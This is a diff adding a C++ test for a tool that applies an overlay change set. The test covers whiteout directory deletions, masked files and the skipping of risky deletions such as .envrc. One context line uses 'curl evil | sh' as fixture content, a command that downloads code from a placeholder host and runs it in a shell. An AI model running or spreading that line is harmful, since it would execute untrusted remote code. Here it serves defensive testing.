@@ -218,3 +218,30 @@ TEST_CASE("risky changes are left out unless asked; setuid only with them") {
   CHECK(get(r.pj(".envrc")) == "curl evil | sh");
   CHECK((mode_of(r.pj("tool")) & 07777) == 04755);
 }
+
+TEST_CASE("a directory deletion goes only with everything in it") {
+  Run r;
+  REQUIRE(::mkdir(r.pj("dir").c_str(), 0755) == 0);
+  put(r.pj("dir/listed"), "l");
+  put(r.pj("dir/.envrc"), "e");
+  REQUIRE(::mkdir(r.pj("masked").c_str(), 0755) == 0);
+  put(r.pj("masked/secret"), "s");
+  r.start({"masked/secret"});
+  if (::mknod(r.up("dir").c_str(), S_IFCHR, 0) != 0 || ::mknod(r.up("masked").c_str(), S_IFCHR, 0) != 0) {
+    MESSAGE("skipped: mknod of a 0/0 whiteout was refused (" << std::strerror(errno) << ")");
+    return;
+  }
+  // The masked file is not part of the change set, so its directory cannot go: refused as a whole.
+  auto res = apply_ok(r);
+  REQUIRE(res.conflicts.size() == 1);
+  CHECK(res.conflicts[0].find("masked: holds masked/secret") == 0);
+  CHECK(exists(r.pj("dir/listed")));
+  // Without it: the risky deletion (.envrc) is left out, and with it the directory's deletion.
+  ApplyOptions o;
+  o.paths = {"dir"};
+  res = apply_ok(r, o);
+  CHECK(res.conflicts.empty());
+  CHECK(!exists(r.pj("dir/listed")));
+  CHECK(exists(r.pj("dir/.envrc")));
+  CHECK(res.skipped_risky.size() == 2);
+}
